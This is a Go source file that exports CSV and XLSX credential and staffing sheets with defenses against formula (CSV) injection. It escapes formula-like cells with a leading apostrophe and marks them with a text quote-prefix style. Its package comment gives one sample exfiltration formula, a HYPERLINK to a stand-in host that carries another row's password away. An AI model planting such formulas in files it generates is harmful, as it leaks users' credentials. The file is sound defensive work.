// Package spreadsheet writes the CSV and XLSX files the platform hands
// out (credential sheets, the staffing-office template) so that no cell
// is run as a formula when the file is opened. Names come from county
// admins and staffing-office lists; a unit named
// =HYPERLINK("http://x/?p="&D2) in a credential sheet would carry
// another row's password away the moment someone clicks it (formula or
// CSV injection). The values themselves stay exact:
//
//   - in CSV, a cell a spreadsheet would take for a formula gets a
//     leading ' (OWASP's advice), which spreadsheets show as text and
//     FromCSV removes again when the platform reads its own file back;
//   - in XLSX, every cell is a string, and one that starts like a formula
//     is also marked as text with the quote-prefix style, so that editing
//     it in Excel or LibreOffice does not turn it into a formula either.
package spreadsheet

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// utf8BOM starts every CSV, so that Excel reads the Chinese in it as
// UTF-8.
var utf8BOM = []byte{0xEF, 0xBB, 0xBF}

// quote is the CSV escape: a spreadsheet takes a cell starting with it
// as text.
const quote = '\''

// FormulaLike says whether a spreadsheet could take v, as a cell, for a
// formula: it starts with =, +, -, @, a tab or a carriage return (OWASP's
// list), or with the full-width =, +, - or @ a Chinese input method
// types, which some spreadsheets read as their ASCII forms.
func FormulaLike(v string) bool {
	r, _ := utf8.DecodeRuneInString(v)
	switch r {
	case '=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠':
		return true
	}
	return false
}

// CSVCell is v as a CSV cell: v with a leading ' if a spreadsheet could
// take it for a formula, or if it starts with ' itself (so that FromCSV
// can tell the two apart); v otherwise.
func CSVCell(v string) string {
	if FormulaLike(v) || strings.HasPrefix(v, string(quote)) {
		return string(quote) + v
	}
	return v
}

// FromCSVCell is the value CSVCell wrote c for: the leading ' removed
// when what follows needed it. A ' a person typed before such a value in
// a spreadsheet means the same thing, "this is text", and goes too.
func FromCSVCell(c string) string {
	if rest, ok := strings.CutPrefix(c, string(quote)); ok && (FormulaLike(rest) || strings.HasPrefix(rest, string(quote))) {
		return rest
	}
	return c
}

// FromCSV turns a CSV record read from a file the platform may have
// written into the values written, in place.
func FromCSV(record []string) []string {
	for i, c := range record {
		record[i] = FromCSVCell(c)
	}
	return record
}

// CSV writes rows as UTF-8 CSV with a BOM, every cell through CSVCell.
func CSV(rows [][]string) ([]byte, error) {
	var b bytes.Buffer
	b.Write(utf8BOM)
	w := csv.NewWriter(&b)
	cells := make([]string, 0, 16)
	for _, row := range rows {
		cells = cells[:0]
		for _, v := range row {
			cells = append(cells, CSVCell(v))
		}
		if err := w.Write(cells); err != nil {
			return nil, err
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		return nil, err
	}
	return b.Bytes(), nil
}

// Sheet is a worksheet of text cells.
type Sheet struct {
	Name string
	Rows [][]string
}

// XLSX writes a workbook of sheets, in order, every cell a string; a
// cell that starts like a formula is marked as text with the
// quote-prefix style.
func XLSX(sheets ...Sheet) ([]byte, error) {
	if len(sheets) == 0 {
		return nil, fmt.Errorf("a workbook needs a sheet")
	}
	f := excelize.NewFile()
	defer f.Close()
	text, err := textStyle(f)
	if err != nil {
		return nil, err
	}
	for i, s := range sheets {
		if i == 0 {
			err = f.SetSheetName(f.GetSheetName(0), s.Name)
		} else {
			_, err = f.NewSheet(s.Name)
		}
		if err != nil {
			return nil, fmt.Errorf("sheet %q: %w", s.Name, err)
		}
		for r, row := range s.Rows {
			for c, v := range row {
				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
				if err != nil {
					return nil, err
				}
				if err := f.SetCellStr(s.Name, cell, v); err != nil {
					return nil, err
				}
				if !FormulaLike(v) {
					continue
				}
				if err := f.SetCellStyle(s.Name, cell, cell, text); err != nil {
					return nil, err
				}
			}
		}
	}
	buf, err := f.WriteToBuffer()
	if err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// textFormat is the built-in number format "@": the cell is text, and
// so is whatever is typed into it.
const textFormat = 49

// textStyle adds the style of a cell that is text, typed with a leading
// apostrophe: the "@" format and the quote prefix. excelize's Style has
// no field for the prefix, so it is set on the cell format it created.
func textStyle(f *excelize.File) (int, error) {
	id, err := f.NewStyle(&excelize.Style{NumFmt: textFormat})
	if err != nil {
		return 0, err
	}
	if f.Styles == nil || f.Styles.CellXfs == nil || id >= len(f.Styles.CellXfs.Xf) {
		return 0, fmt.Errorf("the workbook's cell format %d is not where excelize said", id)
	}
	prefix := true
	f.Styles.CellXfs.Xf[id].QuotePrefix = &prefix
	return id, nil
}
